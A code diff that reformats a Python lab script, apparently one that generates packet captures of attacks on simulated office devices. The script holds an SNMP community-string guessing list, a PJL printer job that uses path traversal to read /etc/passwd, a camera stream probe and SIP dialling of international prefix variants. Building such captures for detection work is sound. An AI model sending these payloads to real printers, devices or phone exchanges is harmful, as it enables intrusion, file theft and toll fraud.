@@ -14,10 +14,29 @@ from pcaps._office_hosts import cameras, printers
 from pcaps.lab._lab import Lab, record
 
 ATTACKER, OUTSIDE = "10.20.10.66", "203.0.113.80"
-WORDS = ("public", "private", "cisco", "manager", "admin", "snmp", "write", "secret", "monitor", "community", "c0mmunity")
+WORDS = (
+    "public",
+    "private",
+    "cisco",
+    "manager",
+    "admin",
+    "snmp",
+    "write",
+    "secret",
+    "monitor",
+    "community",
+    "c0mmunity",
+)
 CONTACT = "1.3.6.1.2.1.1.4.0"
 JOB = r'\033%%-12345X@PJL FSDIRLIST NAME="0:/" ENTRY=1 COUNT=64\r\n@PJL FSUPLOAD NAME="0:/../../etc/passwd" OFFSET=0 SIZE=4096\r\n\033%%-12345X'
-NUMBERS = ("00441904911024", "900441904911024", "9011441904911024", "011441904911024", "+441904911024", "000441904911024")
+NUMBERS = (
+    "00441904911024",
+    "900441904911024",
+    "9011441904911024",
+    "011441904911024",
+    "+441904911024",
+    "000441904911024",
+)
 
 
 def guessing(lab: Lab) -> Iterator[None]:
@@ -45,7 +64,17 @@ def stream(lab: Lab) -> Iterator[None]:
     yield
     camera = lab.inhabitant(cameras()[1])
     lab.serve(camera, "stream", port=554)
-    lab.run(watcher, "ffprobe", "-v", "error", "-rtsp_transport", "tcp", "-timeout", "1500000", f"rtsp://{camera.ip}/Streaming/Channels/101")
+    lab.run(
+        watcher,
+        "ffprobe",
+        "-v",
+        "error",
+        "-rtsp_transport",
+        "tcp",
+        "-timeout",
+        "1500000",
+        f"rtsp://{camera.ip}/Streaming/Channels/101",
+    )
     time.sleep(1)
 
 
@@ -55,9 +84,30 @@ def dialling(lab: Lab) -> Iterator[None]:
     lab.serve(exchange, "registrar", port=5060, proto="udp")
     yield
     for number in NUMBERS:
-        lab.run(caller, "sipp", "-sn", "uac", "-s", number, "-i", OUTSIDE, "-m", "1", "-nostdin", "-timeout", "3s", f"{exchange.ip}:5060")
+        lab.run(
+            caller,
+            "sipp",
+            "-sn",
+            "uac",
+            "-s",
+            number,
+            "-i",
+            OUTSIDE,
+            "-m",
+            "1",
+            "-nostdin",
+            "-timeout",
+            "3s",
+            f"{exchange.ip}:5060",
+        )
     time.sleep(1)
 
 
 if __name__ == "__main__":
-    record(Path(__file__).parent, devices_snmp=guessing, devices_printer=files, devices_camera=stream, devices_exchange=dialling)
+    record(
+        Path(__file__).parent,
+        devices_snmp=guessing,
+        devices_printer=files,
+        devices_camera=stream,
+        devices_exchange=dialling,
+    )
